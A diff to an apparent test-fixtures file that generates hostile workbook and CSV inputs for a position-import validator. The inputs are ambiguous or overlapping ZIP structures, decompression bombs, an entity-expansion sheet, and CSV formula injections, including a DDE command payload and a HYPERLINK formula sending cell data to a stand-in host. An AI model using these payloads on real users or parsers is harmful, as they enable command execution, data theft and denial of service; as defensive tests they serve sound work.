@@ -1,4 +1,15 @@
 import { crc32, deflateRawSync } from 'node:zlib'
+import {
+  behindOtherBytes,
+  emptyByDirectory,
+  hiddenBehindZip64,
+  hiddenInComment,
+  overlapping,
+  sizedByZip64,
+  storedByHeader,
+  withBytesBehindPart,
+  withGap,
+} from './two-readings.ts'
 
 /** A part of an archive, and what its headers say otherwise than is true. */
 export interface Part {
@@ -8,6 +19,7 @@ export interface Part {
   readonly localName?: string
   readonly flags?: number
   readonly method?: number
+  readonly checkSum?: number
 }
 
 /** Packs parts into a ZIP archive as they are told, without asking whether that makes sense. */
@@ -15,8 +27,9 @@ export function archive(parts: readonly Part[]): Buffer {
   const bodies: Buffer[] = []
   const directory: Buffer[] = []
   let offset = 0
-  for (const { name, content, declaredSize, localName = name, flags = 0, method = 8 } of parts) {
+  for (const { name, content, declaredSize, localName = name, flags = 0, method = 8, checkSum } of parts) {
     const raw = Buffer.from(content)
+    const sum = checkSum ?? crc32(raw)
     const packed = deflateRawSync(raw, { level: 6 })
     const size = declaredSize ?? raw.length
     const local = Buffer.alloc(30)
@@ -24,7 +37,7 @@ export function archive(parts: readonly Part[]): Buffer {
     local.writeUInt16LE(20, 4)
     local.writeUInt16LE(flags, 6)
     local.writeUInt16LE(method, 8)
-    local.writeUInt32LE(crc32(raw), 14)
+    local.writeUInt32LE(sum, 14)
     local.writeUInt32LE(packed.length, 18)
     local.writeUInt32LE(size, 22)
     local.writeUInt16LE(Buffer.byteLength(localName), 26)
@@ -34,7 +47,7 @@ export function archive(parts: readonly Part[]): Buffer {
     entry.writeUInt16LE(20, 6)
     entry.writeUInt16LE(flags, 8)
     entry.writeUInt16LE(method, 10)
-    entry.writeUInt32LE(crc32(raw), 16)
+    entry.writeUInt32LE(sum, 16)
     entry.writeUInt32LE(packed.length, 20)
     entry.writeUInt32LE(size, 24)
     entry.writeUInt16LE(Buffer.byteLength(name), 28)
@@ -96,6 +109,9 @@ const rowsOf = (count: number) => {
   return rows.join('')
 }
 
+/** Shared texts that are so many spaces. */
+const texts = (bytes: number): Part => ({ name: 'xl/sharedStrings.xml', content: Buffer.alloc(bytes, ' ') })
+
 const entities = () => {
   const names = Array.from(
     { length: 9 },
@@ -122,6 +138,20 @@ export function quietBomb(): Buffer {
   }
   return workbook(rows.join(''))
 }
+
+/** What a spreadsheet would run: as a cell begins with a sign of its own, a tab, a carriage return, or a full-width sign. */
+const FORMULAS = [
+  '=1+1',
+  '=HYPERLINK("http://x/?"&A1,"c")',
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  '\t=1+1',
+  '\r=1+1',
+  "=cmd|'/C calc'!A0",
+  '＝1+1',
+  '\u202e=1',
+]
 
 /** Hostile files: each with what is wrong, and the beginning of what is said of it. */
 export const HOSTILE: readonly (readonly [name: string, make: () => Buffer, problem: string])[] = [
@@ -215,6 +245,61 @@ export const HOSTILE: readonly (readonly [name: string, make: () => Buffer, prob
     'a part of the workbook is not of the size that it says',
   ],
   [
+    'another workbook behind a 64-bit directory',
+    () => hiddenBehindZip64(workbook(HEADER), workbook(rowsOf(3))),
+    'the archive of the workbook could be read in two ways',
+  ],
+  [
+    '200 MB of texts behind a 64-bit directory',
+    () => hiddenBehindZip64(workbook(HEADER), workbook(HEADER, texts(200_000_000))),
+    'the archive of the workbook could be read in two ways',
+  ],
+  [
+    'another workbook behind an end in a comment',
+    () => hiddenInComment(workbook(HEADER), workbook(rowsOf(3))),
+    'the archive of the workbook could be read in two ways',
+  ],
+  [
+    'an archive behind other bytes',
+    () => behindOtherBytes(workbook(rowsOf(3))),
+    'the archive of the workbook could be read in two ways',
+  ],
+  [
+    'a gap behind the directory',
+    () => withGap(workbook(rowsOf(3))),
+    'the archive of the workbook could be read in two ways',
+  ],
+  [
+    'texts that are empty by the directory and 40 MB by their header',
+    () => emptyByDirectory(workbook(HEADER, texts(40_000_000))),
+    'a part of the workbook could be read in two ways',
+  ],
+  [
+    'a part that is stored by its header and packed by the directory',
+    () => storedByHeader(workbook(rowsOf(3))),
+    'a part of the workbook could be read in two ways',
+  ],
+  [
+    'a part whose size stands in a 64-bit field',
+    () => sizedByZip64(workbook(rowsOf(3))),
+    'a part of the workbook could be read in two ways',
+  ],
+  [
+    'two parts in the same bytes',
+    () => overlapping(workbook(rowsOf(3))),
+    'the parts of the workbook lie over one another',
+  ],
+  [
+    'bytes behind the end of what a part packs',
+    () => withBytesBehindPart(workbook(rowsOf(3))),
+    'a part of the workbook is not of the size that it says',
+  ],
+  [
+    'a part that is not what its check sum says',
+    () => workbook(HEADER, { name: 'a.xml', content: 'x', checkSum: 1 }),
+    'a part of the workbook is broken',
+  ],
+  [
     'an archive that was cut off',
     () => workbook(HEADER).subarray(0, 700),
     'the workbook is cut off or broken',
@@ -222,12 +307,22 @@ export const HOSTILE: readonly (readonly [name: string, make: () => Buffer, prob
   [
     'an archive without its beginning',
     () => Buffer.concat([Buffer.from('PK'), workbook(HEADER).subarray(400)]),
-    'the directory of the workbook is broken',
+    'the archive of the workbook could be read in two ways',
   ],
   ['nothing but an end', () => archive([]), 'the workbook cannot be read'],
   [
     'an archive that is no workbook',
     () => archive([{ name: 'notes.txt', content: 'x' }]),
+    'the workbook cannot be read',
+  ],
+  [
+    'a sheet that is no XML by its name, and declares a document type',
+    () =>
+      archive([
+        ...FRAME.slice(0, 3),
+        { ...FRAME[3]!, content: String(FRAME[3]!.content).replace('sheet1.xml', 'sheet1.dat') },
+        { ...sheet(HEADER, entities()), name: SHEET.replace('.xml', '.dat') },
+      ]),
     'the workbook cannot be read',
   ],
   ['a workbook without its sheet', () => archive(FRAME), 'the workbook cannot be read'],
@@ -284,11 +379,22 @@ export const HOSTILE: readonly (readonly [name: string, make: () => Buffer, prob
     () => Buffer.from('account_number,symbol,shares\n1001,V\u202eTI,1\n'),
     'symbol is no symbol',
   ],
-  [
-    'a formula for a symbol',
-    () => Buffer.from('account_number,symbol,shares\n1001,=1+1,1\n'),
-    'symbol is no symbol',
-  ],
+  ...FORMULAS.map(
+    (formula) =>
+      [
+        `the formula ${JSON.stringify(formula)} for a symbol`,
+        () => Buffer.from(`account_number,symbol,shares\n1001,"${formula.replaceAll('"', '""')}",1\n`),
+        'symbol is no symbol',
+      ] as const,
+  ),
+  ...['VTI', 'vti', ' VTI ', 'VTＩ', '\u00a0ＶＴＩ'].map(
+    (ticker) =>
+      [
+        `one symbol twice, the second time as ${JSON.stringify(ticker)}`,
+        () => Buffer.from(`account_number,symbol,shares\n1001,VTI,14\n1001,${ticker},1\n`),
+        'the position stands already on line 2',
+      ] as const,
+  ),
   [
     'a formula for an account',
     () => Buffer.from('account_number,symbol,shares\n"=HYPERLINK(""http://x"")",VTI,1\n'),
